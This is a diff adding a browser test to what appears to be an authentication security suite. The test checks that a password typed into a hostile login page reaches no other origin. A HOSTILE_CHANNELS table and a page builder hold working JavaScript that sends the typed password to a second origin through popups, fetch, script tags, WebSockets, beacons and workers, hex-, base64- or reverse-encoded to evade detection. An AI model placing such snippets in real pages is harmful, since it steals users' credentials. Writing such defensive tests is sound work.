@@ -544,3 +544,128 @@ def test_no_encoding_of_any_secret_in_any_output_of_a_real_server_run(tmp_path, 
         if form in text
     ]
     assert not leaks, leaks[:10]
+
+
+# A login page that, once the password is typed, sends it to another origin by a channel that no
+# known encoding of it gives away, then goes on to a page of its own. Each channel's payload:
+# how the test finds the password in what the other origin received.
+HOSTILE_CHANNELS = {
+    "popup": ('window.open(E + "/popup?d=" + encodeURIComponent(pw))', lambda p: p),
+    "fetch-hex": ('fetch(E + "/fetch?d=" + hex(pw), {mode: "no-cors"})', lambda p: p.encode().hex()),
+    "script-reversed": (
+        'document.body.append(Object.assign(document.createElement("script"), '
+        '{src: E + "/script?d=" + encodeURIComponent(rev(pw))}))',
+        lambda p: p[::-1],
+    ),
+    "web-socket-base64": (
+        'new WebSocket(E.replace("http:", "ws:") + "/socket?d=" + encodeURIComponent(btoa(pw)))',
+        lambda p: base64.b64encode(p.encode()).decode(),
+    ),
+    "beacon": ('navigator.sendBeacon(E + "/beacon", rev(hex(pw)))', lambda p: p.encode().hex()[::-1]),
+    "worker": (
+        'new Worker(inWorker("fetch(E + \\"/worker?d=\\" + hex(self.name))"), {name: pw})',
+        lambda p: p.encode().hex(),
+    ),
+    "shared-worker": (
+        'new SharedWorker(inWorker("fetch(E + \\"/shared?d=\\" + hex(self.name))"), {name: pw})',
+        lambda p: p.encode().hex(),
+    ),
+    "worker-web-socket": (
+        'new Worker(inWorker("new WebSocket(E.replace(\\"http:\\", \\"ws:\\") + \\"/ws?d=\\" + hex(self.name))"), '
+        "{name: pw})",
+        lambda p: p.encode().hex(),
+    ),
+}
+
+
+def _exfiltrating_login_page(elsewhere: str, channel: str) -> Answer:
+    send = HOSTILE_CHANNELS[channel][0]
+    script = f"""const E = {json.dumps(elsewhere)};
+const hex = s => [...new TextEncoder().encode(s)].map(b => b.toString(16).padStart(2, "0")).join("");
+const rev = s => [...s].reverse().join("");
+const inWorker = code => URL.createObjectURL(new Blob(["const E = " + JSON.stringify(E) + ";"
+  + "const hex = " + hex.toString() + ";" + code], {{type: "text/javascript"}}));
+document.forms[0].onsubmit = event => {{ event.preventDefault();
+  const pw = document.getElementById("password").value;
+  {send};
+  setTimeout(() => location.href = "/account/done", 700); }};"""
+    return _hostile_login_page("/account/login", script)
+
+
+def _received(server: HostileServer) -> str:
+    """Everything another origin received: request lines' decoded query values and bodies."""
+    from urllib.parse import parse_qsl, urlsplit
+
+    return "\n".join(
+        "\n".join(v for _, v in parse_qsl(urlsplit(path).query)) + "\n" + body for _, path, _, body in server.requests
+    )
+
+
+@pytest.mark.skipif(chromium_path() is None and not os.environ.get("CI"), reason="needs Debian's chromium")
+@pytest.mark.parametrize("channel", HOSTILE_CHANNELS)
+def test_a_page_the_password_was_typed_into_reaches_no_other_origin_whatever_it_sends(tmp_path, channel):
+    """Control: in a browser the suite does not guard, the page's channel delivers the password
+    (encoded its own way) to another loopback origin. Guarded: nothing arrives there, and the
+    rule fails naming that origin."""
+    from playwright.sync_api import sync_playwright
+
+    from suite.wire.browser import launch_chromium
+
+    elsewhere = HostileServer({})
+    server = HostileServer({})
+    server.routes.update(
+        {
+            "/.well-known/openid-configuration": server.discovery(),
+            "/connect/authorize": _exfiltrating_login_page(elsewhere.url, channel),
+            "/account/done": Answer(200, {"Content-Type": "text/html"}, b"<!doctype html><p>done</p>"),
+        }
+    )
+    encoded = HOSTILE_CHANNELS[channel][1](PASSWORD)
+    try:
+        with sync_playwright() as playwright:
+            browser = launch_chromium(playwright)
+            page = browser.new_page()
+            page.goto(server.url + "/connect/authorize")
+            page.fill("#password", PASSWORD)
+            page.click("#sign-in")
+            page.wait_for_url("**/account/done")
+            page.wait_for_timeout(300)
+            browser.close()
+        assert encoded in _received(elsewhere), f"control: the {channel} channel did not deliver {elsewhere.requests}"
+        elsewhere.requests.clear()
+        environment = write_environment(
+            tmp_path,
+            _hostile_environment(server.url, "web")
+            + """login:
+  method: browser
+  username: test.user
+  password: ${T_PASSWORD}
+  browser:
+    timeout: 5
+    pages:
+      - url: /connect/authorize
+        when: "#password"
+        actions:
+          - fill: "#username"
+            value: "{username}"
+          - fill: "#password"
+            value: "{password}"
+          - click: "#sign-in"
+""",
+        )
+        result = run_suite(
+            f"--env={environment}",
+            "--rule=AUTH-01",
+            f"--compliance={tmp_path / 'c.json'}",
+            environ={"T_SECRET": CLIENT_SECRET, "T_PASSWORD": PASSWORD},
+        )
+    finally:
+        server.close()
+        elsewhere.close()
+    output = result.stdout + result.stderr
+    assert elsewhere.requests == [], f"the {channel} channel reached another origin: {elsewhere.requests}"
+    assert result.returncode == 1, output[-3000:]
+    assert "refused" in output and elsewhere.url.split("//")[1] in output, output[-3000:]
+    refusal = next(line for line in output.splitlines() if "UntrustedEndpoint: refused" in line)
+    assert elsewhere.url.split("//")[1] in refusal, refusal
+    assert not [form for form in _every_encoding(PASSWORD) if form in output]
